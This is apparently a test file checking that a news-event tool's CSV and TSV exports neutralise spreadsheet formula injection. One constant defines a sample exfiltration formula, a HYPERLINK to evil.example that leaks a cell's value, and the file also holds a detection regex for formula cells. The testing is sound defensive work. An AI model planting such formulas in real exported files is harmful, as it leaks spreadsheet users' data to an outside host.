import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { csvField } from '../../src/events/export/index.js';
import { openSqliteStore } from '../../src/store/sqlite.js';
import { article } from '../cli/_event-store.js';
import { entente } from '../cli/_run.js';
import { parseCsv } from '../events/export/_csv.js';

// what a spreadsheet runs when a cell starts with = + - @ (OWASP "CSV injection"), tab or CR
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Reuters")';
const FORMULAS = [HYPERLINK, '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

test('csvField: a cell a spreadsheet would run as a formula is prefixed with a quote and so read as text', () => {
  for (const f of FORMULAS) {
    const cell = csvField(f);
    const value = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
    assert.equal(value, `'${f}`, JSON.stringify(f));
  }
});

test('csvField: numbers, negative ones too, and ordinary text are unchanged', () => {
  assert.equal(csvField(-2), '-2');
  assert.equal(csvField(-7.5), '-7.5');
  assert.equal(csvField('-7.5'), '-7.5');
  assert.equal(csvField('+3'), '+3');
  assert.equal(csvField('Reuters'), 'Reuters');
  assert.equal(csvField('a = b'), 'a = b');
  assert.equal(csvField(''), '');
  assert.equal(csvField(undefined), '');
});

/** A store whose one article came with an outlet and an address that are formulas. */
async function poisonedStore(): Promise<{ dir: string; db: string }> {
  const dir = mkdtempSync(join(tmpdir(), 'entente-csv-injection-'));
  const db = join(dir, 'events.db');
  const a = article('evil.txt', HYPERLINK, '2021-03-23', 'Russia accused the European Union of meddling on Tuesday.',
    [{ sentence: 0, source: 'RUS', target: 'EU', verb: 'accused', code: '112', plover: 'ACCUSE', goldstein: -2, quad: 3, date: '2021-03-23' }]);
  a.meta.url = { value: '@SUM(1+1)', by: 'given' };
  const store = openSqliteStore(db);
  await store.putArticle(a);
  await store.close();
  return { dir, db };
}

function assertNoFormula(csv: string): void {
  const rows = parseCsv(csv);
  const col = (c: string) => rows[1][rows[0].indexOf(c)];
  assert.equal(col('outlet'), `'${HYPERLINK}`);
  assert.equal(col('url'), "'@SUM(1+1)");
  assert.equal(col('goldstein'), '-2', 'a negative number stays a number');
  for (const r of rows) for (const cell of r) assert.doesNotMatch(cell, /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/, `cell ${JSON.stringify(cell)}`);
}

test('events --format csv and export --format csv write formulas from the input as text', async (t) => {
  const { dir, db } = await poisonedStore();
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const listed = entente(['events', '--db', db, '--format', 'csv', '--limit', 'all']);
  assert.equal(listed.status, 0, listed.stderr);
  assertNoFormula(listed.stdout);
  const out = join(dir, 'events.csv');
  const exported = entente(['export', '--db', db, '--format', 'csv', '--out', out]);
  assert.equal(exported.status, 0, exported.stderr);
  assertNoFormula(readFileSync(out, 'utf8'));
});

test('export --format gdelt: its tab-separated tables, which spreadsheets open too, write formulas from the input as text', async (t) => {
  const { dir, db } = await poisonedStore();
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const out = join(dir, 'events.tsv');
  const r = entente(['export', '--db', db, '--format', 'gdelt', '--out', out]);
  assert.equal(r.status, 0, r.stderr);
  const table = (p: string) => readFileSync(p, 'utf8').trimEnd().split('\n').map((l) => l.split('\t'));
  const [eh, ev] = table(out);
  const [mh, mv] = table(join(dir, 'events.mentions.tsv'));
  assert.equal(ev[eh.indexOf('SOURCEURL')], "'@SUM(1+1)");
  assert.equal(ev[eh.indexOf('GoldsteinScale')], '-2');
  assert.equal(mv[mh.indexOf('MentionSourceName')], `'${HYPERLINK}`);
  assert.equal(mv[mh.indexOf('MentionIdentifier')], "'@SUM(1+1)");
  for (const cell of [...ev, ...mv]) assert.doesNotMatch(cell, /^[=+@]|^-(?!\d+(\.\d+)?$)/, `cell ${JSON.stringify(cell)}`);
});
